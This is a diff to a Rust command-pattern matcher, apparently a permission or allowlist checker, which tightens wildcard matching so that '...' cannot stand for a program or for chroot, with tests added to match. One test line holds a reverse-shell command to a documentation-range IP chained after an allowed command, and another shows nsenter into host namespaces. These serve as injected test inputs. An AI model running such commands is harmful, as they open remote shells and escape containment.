@@ -108,7 +108,7 @@ fn read_pattern(pattern: &str) -> Vec<Piece<'static>> {
     pieces(cmdline::parse_shell(text.trim_start()))
 }
 
-/// Compares piece by piece; `...` takes any words up to the next operator.
+/// Compares piece by piece; `...` takes any words up to the next operator or program: what is run is always named.
 fn compare(pattern: &[Piece<'_>], line: &[Piece<'_>]) -> bool {
     let (mut p, mut l) = (0, 0);
     let mut resume: Option<(usize, usize)> = None;
@@ -128,8 +128,7 @@ fn compare(pattern: &[Piece<'_>], line: &[Piece<'_>]) -> bool {
             _ => {}
         }
         match resume {
-            Some((star, from)) if matches!(line.get(from), Some(Piece::Word(word) | Piece::Program(word)) if !changes_program(word)) =>
-            {
+            Some((star, from)) if matches!(line.get(from), Some(Piece::Word(word)) if !changes_program(word)) => {
                 resume = Some((star, from + 1));
                 (p, l) = (star, from + 1);
             }
@@ -138,7 +137,8 @@ fn compare(pattern: &[Piece<'_>], line: &[Piece<'_>]) -> bool {
     }
 }
 
-/// Options by which a harmless program is made to run another: no pattern's `...` stands for them.
+/// Words by which a harmless program is made to run another, or is looked for elsewhere: no pattern's `...` stands for
+/// them.
 fn changes_program(word: &str) -> bool {
     [
         "ProxyCommand",
@@ -156,6 +156,7 @@ fn changes_program(word: &str) -> bool {
     ]
     .iter()
     .any(|option| word.contains(option))
+        || base_name(word) == "chroot"
 }
 
 /// Whether a program is the one that the pattern names: by its name where it lies among installed programs, by its whole
@@ -172,9 +173,6 @@ fn piece_matches(pattern: &Piece<'_>, piece: &Piece<'_>) -> bool {
     match (pattern, piece) {
         (Piece::Word(pattern), Piece::Word(word)) => pattern::glob(pattern, word),
         (Piece::Program(pattern), Piece::Program(path)) => is_program(pattern, path),
-        (Piece::Word(pattern), Piece::Program(word)) | (Piece::Program(pattern), Piece::Word(word)) => {
-            pattern::glob(pattern, word)
-        }
         (Piece::Operator(pattern), Piece::Operator(text)) => pattern == text || pattern::glob(pattern, text),
         _ => false,
     }
@@ -203,6 +201,25 @@ mod tests {
             "ip link del calico_tmp_* || true",
             "sh -c ip link del calico_tmp_A || bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"
         ));
+    }
+
+    #[test]
+    fn rest_never_stands_for_a_program() {
+        let pattern = "nsenter ... ls ...";
+        let enters = |rest: &str| matches(pattern, &format!("nsenter --mount=/host/proc/1/ns/mnt {rest}"));
+        for rest in ["ls", "ls /dev/longhorn", "-- ls /dev/longhorn", "--net=/host/proc/1/ns/net -- /usr/bin/ls /dev"] {
+            assert!(enters(rest), "{rest}");
+        }
+        for rest in [
+            "-- python3 /var/lib/x.py ls",
+            "python3 ls",
+            "-- /var/lib/x ls",
+            "/var/lib/ls",
+            "-- env python3 ls",
+            "-- chroot /var/lib/x ls",
+        ] {
+            assert!(!enters(rest), "{rest}");
+        }
     }
 
     #[test]
